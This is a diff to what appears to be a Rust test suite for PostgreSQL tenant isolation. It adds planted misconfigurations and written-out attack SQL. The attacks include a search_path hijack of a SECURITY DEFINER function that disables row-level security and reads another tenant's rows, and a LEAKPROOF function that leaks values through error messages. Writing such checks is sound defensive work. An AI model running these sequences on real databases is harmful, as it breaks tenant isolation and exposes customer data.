@@ -57,6 +57,23 @@ pub const FUNCTIONS: &[Case] = &[
         ..NONE
     },
     Case {
+        // The function calls what its caller's search path has first, as the owner of the tables.
+        codes: &["function.definer-path", "schema.create"],
+        plant: "CREATE SCHEMA side; GRANT USAGE, CREATE ON SCHEMA side TO {user}; GRANT USAGE ON SCHEMA side TO {owner}; \
+                CREATE FUNCTION app.total(bigint) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER AS \
+                $$ BEGIN RETURN with_tax($1); END $$; \
+                ALTER FUNCTION app.total(bigint) OWNER TO {owner}; GRANT EXECUTE ON FUNCTION app.total(bigint) TO {user}",
+        attack: Attack::Reads(&[
+            "CREATE FUNCTION side.with_tax(bigint) RETURNS bigint LANGUAGE plpgsql AS \
+             $$ BEGIN ALTER TABLE app.customers DISABLE ROW LEVEL SECURITY; RETURN 1; END $$",
+            "SET LOCAL search_path = side",
+            "SELECT app.total(1)",
+            "SELECT count(*) FROM app.customers WHERE email LIKE '%globex%'",
+        ]),
+        clean_up: "DROP FUNCTION app.total(bigint); DROP SCHEMA side",
+        ..NONE
+    },
+    Case {
         codes: &["function.leakproof"],
         plant: "CREATE FUNCTION app.leak(text) RETURNS boolean LANGUAGE plpgsql LEAKPROOF COST 0.0001 AS \
                 $$ BEGIN IF $1 LIKE '%globex%' THEN RAISE unique_violation USING MESSAGE = $1; END IF; RETURN true; END $$",
@@ -89,6 +106,12 @@ pub const SETTINGS: &[Case] = &[
         codes: &["policy.foreign"],
         plant: "CREATE POLICY unset ON app.customers TO {user} \
                 USING (current_setting('app.tenant', true) IS NULL OR tenant_id::text = current_setting('app.tenant', true))",
+        attack: READ_WITHOUT_CONTEXT,
+        ..NONE
+    },
+    Case {
+        codes: &["role.settings"],
+        plant: "ALTER DATABASE {db} SET tenantry.tenant = '{globex}'",
         attack: READ_WITHOUT_CONTEXT,
         ..NONE
     },
